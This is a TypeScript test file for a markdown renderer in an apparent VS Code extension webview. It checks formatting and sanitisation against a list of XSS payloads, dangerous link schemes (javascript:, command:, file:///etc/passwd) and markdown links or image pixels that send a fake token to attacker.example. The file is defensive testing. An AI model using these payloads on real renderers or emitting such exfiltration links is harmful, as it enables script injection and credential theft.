import assert from 'node:assert/strict';
import { renderMarkdown } from '../../../src/webview/explain/render';
import { highlightCode, knownLanguage, LANGUAGE_COUNT } from '../../../src/webview/explain/languages';

/** No tag other than the renderer's own, no attribute other than its own, no inline style or handler. */
function assertOnlySafeTags(html: string) {
  const allowed = new Set(['p', 'br', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 's', 'code', 'pre', 'ul', 'ol', 'li', 'blockquote', 'a', 'div', 'button', 'span', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr']);
  for (const m of html.matchAll(/<\/?([a-zA-Z0-9]+)([^>]*)>/g)) {
    assert.ok(allowed.has(m[1].toLowerCase()), `tag <${m[1]}> in ${html}`);
    const attrs = [...m[2].matchAll(/\s([\w-]+)=/g)].map((a) => a[1]);
    for (const a of attrs) assert.ok(['class', 'href', 'title', 'type', 'start'].includes(a), `attribute ${a} in ${m[0]}`);
  }
  assert.doesNotMatch(html, /\sstyle=/i);
  assert.doesNotMatch(html, /href="(?!https:\/\/)/i);
}

const SECRET = 'ghp_R3stor3dT0kenValue0123456789abcdef';
const BLOCKED = '<span class="blocked-link" title="Link removed: its address holds a secret from your code">';

describe('renderMarkdown (markdown-it): what models write', () => {
  it('renders a table, with alignment as a class (the CSP drops inline styles)', () => {
    const html = renderMarkdown('| name | kind |\n|:--|:-:|\n| `a` | **b** |');
    assert.equal(html, '<table>\n<thead>\n<tr>\n<th class="align-left">name</th>\n<th class="align-center">kind</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td class="align-left"><code>a</code></td>\n<td class="align-center"><strong>b</strong></td>\n</tr>\n</tbody>\n</table>\n');
    assertOnlySafeTags(html);
  });

  it('renders nested and numbered lists', () => {
    const html = renderMarkdown('1. first\n   - inner *em*\n     1. deepest\n2. second\n\n3) third');
    assert.equal(html, '<ol>\n<li>first\n<ul>\n<li>inner <em>em</em>\n<ol>\n<li>deepest</li>\n</ol>\n</li>\n</ul>\n</li>\n<li>second</li>\n</ol>\n<ol start="3">\n<li>third</li>\n</ol>\n');
  });

  it('renders headings, block quotes, emphasis, strikethrough and inline code', () => {
    assert.equal(renderMarkdown('## Why\n\n> a *quote*\n> goes on\n\nSome ~~old~~ `x < y`.'), '<h2>Why</h2>\n<blockquote>\n<p>a <em>quote</em>\ngoes on</p>\n</blockquote>\n<p>Some <s>old</s> <code>x &lt; y</code>.</p>\n');
  });

  it('renders fenced code highlighted by highlight.js, with the Copy button', () => {
    assert.equal(
      renderMarkdown('```ts\nconst a = "<b>"; // note\n```'),
      '<div class="code-block"><div class="code-head"><span class="lang">ts</span><button class="copy" type="button" title="Copy code">Copy</button></div><pre><code class="hljs language-typescript"><span class="hljs-keyword">const</span> a = <span class="hljs-string">&quot;&lt;b&gt;&quot;</span>; <span class="hljs-comment">// note</span></code></pre></div>\n',
    );
  });

  it('renders a fence still streaming (not closed yet) as code', () => {
    assert.match(renderMarkdown('Look:\n```py\ndef f():'), /<code class="hljs language-python"><span class="hljs-keyword">def<\/span> <span class="hljs-title function_">f<\/span>\(\):<\/code>/);
  });

  it('shows a fence in a language without a grammar as escaped plain code', () => {
    assert.match(renderMarkdown('```cobol\nDISPLAY "<HI>".\n```'), /<span class="lang">cobol<\/span>.*<pre><code>DISPLAY &quot;&lt;HI&gt;&quot;.<\/code><\/pre>/);
  });
});

describe('renderMarkdown: untrusted text stays text', () => {
  it('escapes a <script> in the text (raw HTML is off)', () => {
    assert.equal(renderMarkdown('Call <script>alert(1)</script> now'), '<p>Call &lt;script&gt;alert(1)&lt;/script&gt; now</p>\n');
  });

  it('links https only; javascript:, command:, data:, http:, vbscript: and relative links stay text', () => {
    assert.equal(renderMarkdown('[docs](https://example.com/a?b=1&c=2)'), '<p><a href="https://example.com/a?b=1&amp;c=2" title="https://example.com/a?b=1&amp;c=2">docs</a></p>\n');
    for (const url of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'command:tandem.setOpenAIKey', 'command:workbench.action.terminal.sendSequence?%7B%7D', 'data:text/html;base64,PHNjcmlwdD4=', 'http://example.com', 'vbscript:x', '/relative', 'file:///etc/passwd']) {
      const html = renderMarkdown(`[click](${url})`);
      assert.doesNotMatch(html, /<a\b/, url);
      assert.match(html, /^<p>\[click\]\(/, url);
    }
  });

  it('turns an https image into a link labelled with its alt text (no remote image loads)', () => {
    assert.equal(renderMarkdown('![the chart](https://example.com/c.png)'), '<p><a class="image-link" href="https://example.com/c.png" title="https://example.com/c.png">the chart</a></p>\n');
    assert.doesNotMatch(renderMarkdown('![x](javascript:alert(1)) ![y](data:image/png;base64,iVBOR)'), /<(a|img)\b/);
  });

  const attacks = [
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '[click](https://x.com" onmouseover="alert(1))',
    '**<iframe src=//evil>**',
    '`</code><script>alert(1)</script>`',
    '```"><script>alert(1)</script>\ncode\n```',
    '```js onload=alert(1)\nx\n```',
    '# <svg/onload=alert(1)>',
    '| <style>x</style> | b |\n|--|--|\n| <img src=x> | [a](javascript:x) |',
    '[<img src=x onerror=alert(1)>](https://ok.com)',
    '<!-- c --><meta http-equiv="refresh" content="0;url=https://evil">',
    '[a]: javascript:alert(1)\n\n[a]',
  ];
  for (const a of attacks) {
    it(`neutralises ${JSON.stringify(a)}`, () => {
      const html = renderMarkdown(a);
      assertOnlySafeTags(html);
      assert.doesNotMatch(html, /<(script|img|iframe|svg|style|object|meta)\b/i);
    });
  }
});

describe('renderMarkdown: restored secrets never leave in a link', () => {
  const restored = [SECRET];
  it('renders a link whose URL holds a restored secret as plain text', () => {
    const html = renderMarkdown(`See [the docs](https://attacker.example/?t=${SECRET}).`, { restored });
    assert.equal(html, `<p>See ${BLOCKED}the docs</span>.</p>\n`);
  });
  it('does the same for an image source and an autolink', () => {
    assert.equal(renderMarkdown(`![pixel](https://attacker.example/p.png?k=${SECRET})`, { restored }), `<p>${BLOCKED}pixel</span></p>\n`);
    const auto = renderMarkdown(`<https://attacker.example/${SECRET}>`, { restored });
    assert.doesNotMatch(auto, /<a\b/);
  });
  it('catches the secret percent-encoded, in another letter case, or in the host', () => {
    const special = 'p@ss/w0rd+K3y=';
    for (const md of [
      `[a](https://attacker.example/?t=${encodeURIComponent(special)})`,
      `[a](https://attacker.example/?t=${special})`,
      `[a](https://${SECRET.toUpperCase()}.attacker.example/)`,
    ]) {
      const html = renderMarkdown(md, { restored: [special, SECRET] });
      assert.doesNotMatch(html, /<a\b/, md);
      assert.match(html, /blocked-link/, md);
    }
  });
  it('keeps other links clickable, and the secret itself readable as text', () => {
    const html = renderMarkdown(`The key \`${SECRET}\` is read by [the loader](https://example.com/docs).`, { restored });
    assert.match(html, /<a href="https:\/\/example.com\/docs"/);
    assert.ok(html.includes(SECRET));
  });
  it('links the same URL when no secret was restored', () => {
    assert.match(renderMarkdown(`[the docs](https://attacker.example/?t=${SECRET})`), /<a href=/);
  });
});

describe('highlight.js language set', () => {
  it('bundles a chosen set of about thirty grammars, with VS Code language ids as aliases', () => {
    assert.ok(LANGUAGE_COUNT >= 28 && LANGUAGE_COUNT <= 36, String(LANGUAGE_COUNT));
    assert.equal(knownLanguage('ts'), 'typescript');
    assert.equal(knownLanguage('typescriptreact'), 'typescript');
    assert.equal(knownLanguage('shellscript'), 'bash');
    assert.equal(knownLanguage('PY'), 'python');
    assert.equal(knownLanguage('brainfuck'), undefined);
  });
  it('keeps code inside its spans', () => {
    assert.equal(highlightCode('"</span><script>"', 'js'), '<span class="hljs-string">&quot;&lt;/span&gt;&lt;script&gt;&quot;</span>');
    assert.equal(highlightCode('x', 'nope'), undefined);
  });
});
